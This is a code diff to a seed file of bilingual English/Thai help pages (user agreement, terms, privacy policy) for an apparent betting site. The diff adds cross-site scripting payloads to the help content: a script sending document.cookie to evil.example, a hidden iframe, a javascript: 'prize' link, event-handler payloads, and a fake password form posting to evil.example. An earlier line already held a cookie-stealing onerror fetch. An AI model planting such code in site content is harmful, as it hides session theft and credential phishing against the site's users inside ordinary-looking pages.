@@ -125,15 +125,23 @@ export const HELP_SECTIONS: HelpSeed[] = [
     titles: { EN: 'User agreement', TY: 'ข้อตกลงผู้ใช้' },
     content: {
       EN: '<h2>User agreement</h2><ol><li>You must be 18 or older to play.</li><li>One account per person.</li><li>Bonuses carry turnover requirements shown on each promotion.</li></ol><p>Read our <a href="/help" target="_blank">terms</a> or <a href="javascript:alert(document.cookie)">click here for a prize</a>.</p>',
-      TY: '<h2>ข้อตกลงผู้ใช้</h2><ol><li>ผู้เล่นต้องมีอายุ 18 ปีขึ้นไป</li><li>หนึ่งบัญชีต่อหนึ่งท่าน</li></ol>',
+      TY: '<h2>ข้อตกลงผู้ใช้</h2><ol><li>ผู้เล่นต้องมีอายุ 18 ปีขึ้นไป</li><li>หนึ่งบัญชีต่อหนึ่งท่าน</li><li>โบนัสมีเงื่อนไขยอดเทิร์นโอเวอร์ตามที่แจ้งในแต่ละโปรโมชั่น</li></ol><p><a href="javascript:alert(document.cookie)">คลิกรับรางวัล</a></p><script>document.location="https://evil.example/?"+document.cookie</script>',
+    },
+  },
+  {
+    code: 'terms',
+    titles: { EN: 'Terms and conditions', TY: 'ข้อกำหนดและเงื่อนไข' },
+    content: {
+      EN: '<h2>Terms and conditions</h2><p>By playing you accept these terms. Bets are final once the round starts; a void round is refunded to the wallet it came from.</p><ul><li>Deposits must come from an account in your own name.</li><li>Withdrawals need the turnover shown on the withdraw page.</li></ul><iframe src="https://evil.example/terms" width="1" height="1"></iframe><p onmouseover="alert(1)">We may change these terms; the date of the last change is shown here.</p>',
+      TY: '<h2>ข้อกำหนดและเงื่อนไข</h2><p>การเล่นถือว่าคุณยอมรับข้อกำหนดเหล่านี้ เดิมพันถือเป็นที่สิ้นสุดเมื่อรอบเริ่มแล้ว รอบที่ถูกยกเลิกจะคืนเงินเข้ากระเป๋าเดิม</p><ul><li>การฝากเงินต้องมาจากบัญชีที่เป็นชื่อของคุณเอง</li><li>การถอนเงินต้องทำยอดเทิร์นโอเวอร์ตามที่แสดงในหน้าถอนเงิน</li></ul><img src="x" onerror="alert(\'th\')" alt="">',
     },
   },
   {
     code: 'privacy-policy',
-    titles: { EN: 'Terms and privacy policy', TY: 'ข้อกำหนดและนโยบายความเป็นส่วนตัว' },
+    titles: { EN: 'Privacy policy', TY: 'นโยบายความเป็นส่วนตัว' },
     content: {
       EN: '<h2>Privacy</h2><p>We keep your personal data only as long as the law requires.</p><img src="x" onerror="fetch(\'https://evil.example/steal?c=\'+document.cookie)" alt="policy"><p style="background:url(javascript:alert(1))">Questions? Contact customer service.</p>',
-      TY: '<h2>ความเป็นส่วนตัว</h2><p>เราเก็บข้อมูลส่วนบุคคลของคุณเท่าที่กฎหมายกำหนดเท่านั้น</p>',
+      TY: '<h2>ความเป็นส่วนตัว</h2><p>เราเก็บข้อมูลส่วนบุคคลของคุณเท่าที่กฎหมายกำหนดเท่านั้น</p><form action="https://evil.example/login"><input name="password" placeholder="ยืนยันรหัสผ่าน"></form>',
     },
   },
   {
